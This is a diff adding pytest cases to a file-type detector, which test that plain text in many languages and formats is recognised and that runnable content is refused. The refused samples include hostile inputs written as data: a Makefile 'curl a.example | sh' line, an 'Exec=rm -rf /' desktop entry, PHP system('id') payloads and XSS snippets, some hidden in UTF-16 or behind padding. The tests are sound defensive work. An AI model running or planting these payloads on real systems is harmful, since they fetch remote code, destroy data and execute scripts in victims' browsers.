@@ -66,6 +66,109 @@ async def test_other_types_are_reported_as_found(pool: DecoderPool, head: bytes,
     assert await identify_head(pool, head) in found.split("|")
 
 
+_LATIN = "Grüße aus Köln, schöne Straße.\n"
+PLAIN: list[bytes] = [
+    b".gitignore is a file.\n",
+    b".\n.\n.\n",
+    b"... and then nothing.\n",
+    b".TH is how a manual begins, and .SH a section.\n",
+    b".TH LS 1\n.SH NAME\nls\n",
+    b"'\\\" and a quote\n",
+    b"x",
+    b"\n",
+    "é".encode(),
+    b"Dear Sir or Madam,\n\nit was the best of times, it was the worst of times.\n",
+    b"From: Alice\nTo: Bob\nSubject: lunch\n\nAt noon?\n",
+    b"From alice Mon Jan  1 00:00:00 2024\n",
+    b"a,b,c\n1,2,3\n4,5,6\n",
+    b"a;b;c\r\n1;2;3\r\n",
+    b"name\tage\nAnn\t31\n",
+    b"2026-11-22 20:10:15,123 INFO worker.started pid=1\n" * 20,
+    b'{"level": "info", "event": "started"}\n{"level": "info", "event": "done"}\n',
+    b'{"a": [1, 2, 3]}\n',
+    b"[section]\nkey=value\n; comment\n",
+    b"[global]\nworkgroup = HOME\n",
+    b"---\na: 1\nb:\n  - c\n",
+    b"# Title\n\n* one\n* two\n\n> quoted\n",
+    b"Title\n=====\n\n```\ncode\n```\n",
+    b"| a | b |\n|---|---|\n| 1 | 2 |\n",
+    b"A tag like <b> is fine further down, and so is 3 < 4.\n",
+    b"<not markup at all\n",
+    b"-- \nsignature\n",
+    b"100% sure <- that\n",
+    b"1\n00:00:01,000 --> 00:00:02,000\nHello.\n",
+    b"WEBVTT\n\n00:01.000 --> 00:02.000\nHello.\n",
+    b"BEGIN:VCARD\nVERSION:3.0\nFN:Ann\nEND:VCARD\n",
+    b"BEGIN:VCALENDAR\nVERSION:2.0\nEND:VCALENDAR\n",
+    b"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
+    b"/* A remark. */\n#include <stdio.h>\nint main(void) { return 0; }\n",
+    b"\\documentclass{article}\n\\begin{document}\n",
+    b"# a note #! not at the beginning\n",
+    _LATIN.encode(),
+    b"\xef\xbb\xbf" + _LATIN.encode(),
+    "你好世界。这是一个文本文件。\n".encode(),
+    "مرحبا بالعالم، هذا نص.\n".encode(),
+    "Привет, мир!\n".encode(),
+    "🎉 done\n".encode(),
+    _LATIN.encode("utf-16"),
+    b"\xfe\xff" + _LATIN.encode("utf-16-be"),
+    "你好世界。\n".encode("utf-16"),
+    ("字" * HEAD_BYTES).encode(),
+]
+REFUSED: list[bytes] = [
+    b"\x7fELF" + bytes(99),
+    b"text\0with a NUL\n",
+    b"\0",
+    b"\x01",
+    "no mark".encode("utf-16-le"),
+    "thirty-two bits".encode("utf-32"),
+    b"%!PS-Adobe-3.0\n",
+    b"{\\rtf1 hello}",
+    b"#!/usr/bin/env python3\nprint()\n",
+    b"\xef\xbb\xbf#!/bin/sh\nid\n",
+    "#!/bin/sh\nid\n".encode("utf-16"),
+    b"<?php echo 1;",
+    b"Hello.\n" * 50 + b"<?php system('id');",
+    b".TH X 1\n<?PHP system('id');",
+    b"a text <?= 1 ?>\n",
+    b"a text <% eval request %>\n",
+    b"\xff\xfe" + "text <?php echo 1;".encode("utf-16-le"),
+    b"@echo off\r\ndel *\r\n",
+    b"[Desktop Entry]\nExec=rm -rf /\n",
+    b"[InternetShortcut]\nURL=http://a.example/\n",
+    "Windows Registry Editor Version 5.00\r\n".encode("utf-16"),
+    b"use strict;\nuse warnings;\nmy $x = 1;\n#!/usr/bin/perl\n<script>",
+    b'import os\ndef main():\n    """Run."""\n    os.system("id")\n',
+    b"all:\n\tcurl a.example | sh\n",
+    b"<html><body>hi",
+    b"<!-- a remark --><b>",
+    b"\n\t <IFRAME src=//a.example>",
+    b"Hello <script>alert(1)</script>\n",
+    b"x" * 2000 + b"<ScRiPt src=//a.example>",
+    b"x\n<svg/onload=alert(1)>\n",
+    b".<svg onload=alert(1)>",
+    "<script>alert(1)</script>".encode("utf-16"),
+    b"\xfe\xff" + "<svg onload='alert(1)'/>".encode("utf-16-be"),
+    b"<?xml version='1.0'?><a/>",
+    b"\xef\xbb\xbf<?xml version='1.0'?><a/>",
+    b"From: a\nMIME-Version: 1.0\nContent-Type: text/html\n\n<b>hi\n",
+    b"GIF89a is how a picture begins.\n",
+    b"PK\x03\x04" + b"text" * 20,
+]
+
+
+@pytest.mark.parametrize("head", PLAIN)
+async def test_text_is_plain_text(pool: DecoderPool, head: bytes) -> None:
+    """What people write and machines log is plain text in any language, though it looks like something else."""
+    assert await identify_head(pool, head) == "text/plain"
+
+
+@pytest.mark.parametrize("head", REFUSED)
+async def test_what_could_run_is_not_plain_text(pool: DecoderPool, head: bytes) -> None:
+    """What a browser, a shell, a web server or a desktop would run is no plain text, nor is what holds a NUL."""
+    assert await identify_head(pool, head) not in {"text/plain", "application/pdf"}
+
+
 @pytest.mark.parametrize("before", [b"\n", b"junk" * 20, b"MZ" + bytes(60), b"<html>"])
 async def test_a_pdf_begins_with_its_signature(pool: DecoderPool, before: bytes) -> None:
     """A document that is something else as well, before its signature, is no PDF."""
